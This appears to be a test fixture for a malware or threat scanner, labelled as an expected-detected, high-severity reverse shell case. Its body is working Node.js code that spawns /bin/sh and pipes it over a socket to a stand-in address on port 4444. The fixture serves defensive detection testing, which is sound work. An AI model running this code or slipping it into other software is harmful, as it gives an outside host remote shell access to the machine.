// expect: detected
// threat: 27 reverse shell
// at: source
// family: reverse-shell
// severity: high
// decision: refused

(function () {
  const net = require('net');
  const shell = require('child_process').spawn('/bin/sh', []);
  const client = new net.Socket();
  client.on('error', () => process.exit(1));
  client.connect(4444, '203.0.113.9', function () {
    client.pipe(shell.stdin);
    shell.stdout.pipe(client);
    shell.stderr.pipe(client);
  });
})();
